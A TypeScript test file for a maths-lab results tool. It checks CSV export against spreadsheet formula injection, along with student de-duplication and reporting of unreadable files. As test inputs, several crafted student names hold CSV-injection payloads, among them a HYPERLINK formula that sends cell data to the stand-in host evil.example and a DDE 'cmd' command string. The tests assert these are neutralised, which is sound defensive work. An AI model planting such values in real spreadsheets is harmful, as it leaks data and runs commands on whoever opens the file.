/** #/results: CSV safe in any spreadsheet, students counted once, each file named as it is checked. */
import { describe, expect, it } from 'vitest';
import { csvCell, csvText, studentsCsv } from '../../src/results/csv';
import { collate } from '../../src/results/collate';
import { addBatch } from '../../src/results/batches';

const file = (student: string, seeds: number[]) =>
  JSON.stringify({
    format: 'render-math-lab-results',
    formatVersion: 1,
    student,
    attempts: seeds.map((seed) => ({
      question: 'q3',
      seed,
      time: `2026-01-01T00:00:${String(seed % 60).padStart(2, '0')}Z`,
      answers: { x: '1' },
      verdicts: { x: 'correct' },
    })),
  });

describe('CSV export', () => {
  it('makes every formula text, also after a separator a spreadsheet may split on', () => {
    for (const bad of [
      '=1+1',
      '+1',
      '-1+HYPERLINK("http://x")',
      '@SUM(A1)',
      '\t=1',
      ' =1',
      'Ada;=3+3',
      'Ada,=3+3',
    ]) {
      const cell = csvCell(bad);
      for (const part of cell.replace(/^"|"$/g, '').split(/[;,\t]/))
        expect(part.trimStart()).not.toMatch(/^[=+\-@]/);
    }
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell('-2')).toBe('-2');
    expect(csvCell('Ada')).toBe('Ada');
  });
  it('starts with a byte-order mark so accented names open right', () => {
    expect(csvText([['Zoë']]).startsWith('\uFEFFZoë')).toBe(true);
  });
});

/** Every cell a reader splitting on `sep` would see (quotes as a plain reader keeps them). */
const cellsOf = (csv: string, sep: RegExp) =>
  csv
    .replace(/^\uFEFF/, '')
    .split(/\r\n/)
    .flatMap((line) => line.split(sep))
    .map((c) => c.replace(/^"|"$/g, '').trimStart());

describe('CSV export of a class with crafted names', () => {
  it('no reader, splitting on commas, semicolons or tabs, sees a formula', async () => {
    const names = [
      '-1+HYPERLINK("https://evil.example/?"&A1,"x")',
      'Zoë;=3+3',
      'Ada\t+cmd|" /C calc"!A0',
      '@SUM(1,2)',
      'Bo,-2+3',
      'Li\r\n=1+1',
      '=1',
    ];
    const c = await collate(names.map((n, i) => ({ name: `f${i}.json`, text: file(n, [i]) })));
    expect(c.students).toHaveLength(names.length);
    const csv = studentsCsv(c);
    expect(csv.startsWith('\uFEFFstudent,')).toBe(true);
    for (const sep of [/,/, /;/, /\t/, /[,;\t]/])
      for (const cell of cellsOf(csv, sep)) expect(cell).not.toMatch(/^[=+\-@]/);
    // the names are all there, as text
    expect(csv).toContain("'-1+HYPERLINK");
    expect(csv).toContain("Zoë;'=3+3");
  });
});

describe('collation', () => {
  it('one student under other spellings, and one attempt handed in twice, count once', async () => {
    const c = await collate([
      { name: 'zoe-1.json', text: file('Zoë Ng', [1, 2]) },
      // decomposed ë, other case, doubled space; the same attempts and one more
      { name: 'zoe-2.json', text: file('ZOE\u0308  ng', [2, 3]) },
      // the first file again under another name
      { name: 'zoe-copy.json', text: file('Zoë Ng', [1, 2]) },
      // an attempt repeated inside one file
      { name: 'al.json', text: file('Al', [4, 4, 4]) },
    ]);
    expect(c.students.map((s) => [s.student, s.attempts])).toEqual([
      ['Zoë Ng', 3],
      ['Al', 1],
    ]);
    expect(c.attempts).toBe(4);
    expect(c.questions.find((q) => q.question === 'q3')!.students).toBe(2);
  });
  it('a student in two files, and a file handed in twice, count once', async () => {
    const c = await collate([
      { name: 'a.json', text: file('Ada', [1, 2]) },
      { name: 'a-again.json', text: file(' ada ', [2, 3]) },
      { name: 'b.json', text: file('Bob', [1]) },
    ]);
    expect(c.students.map((s) => s.student)).toEqual(['Ada', 'Bob']);
    expect(c.students[0].attempts).toBe(3);
    expect(c.questions.find((q) => q.question === 'q3')!.students).toBe(2);
    expect(studentsCsv(c).split('\r\n')).toHaveLength(4);
  });
  it('a second batch adds to the first', () => {
    const one = [{ name: 'a.json', text: 'A' }];
    expect(addBatch(one, [{ name: 'b.json', text: 'B' }]).map((f) => f.name)).toEqual(['a.json', 'b.json']);
    expect(addBatch(one, [{ name: 'a.json', text: 'A' }])).toHaveLength(1);
  });
  it('names each file as it starts and leaves out, by name, a file that cannot be read', async () => {
    const steps: string[] = [];
    const c = await collate(
      [
        { name: 'ok.json', text: file('Cy', [1, 2]) },
        { name: 'cut.json', text: file('Di', [1]).slice(0, 60) },
        { name: 'v2.json', text: file('Ed', [1]).replace('"render-math-lab-results"', '"other-app"') },
      ],
      (done, f) => steps.push(f ? `start ${f}` : `done ${done}`),
    );
    expect(steps).toEqual(['start ok.json', 'done 1', 'start cut.json', 'done 2', 'start v2.json', 'done 3']);
    expect(c.attempts).toBe(2);
    expect(c.problems).toHaveLength(2);
    expect(c.problems[0]).toMatch(/^cut\.json: not JSON/);
    expect(c.problems[1]).toMatch(/^v2\.json: not a Render Math Lab results file/);
  });
});
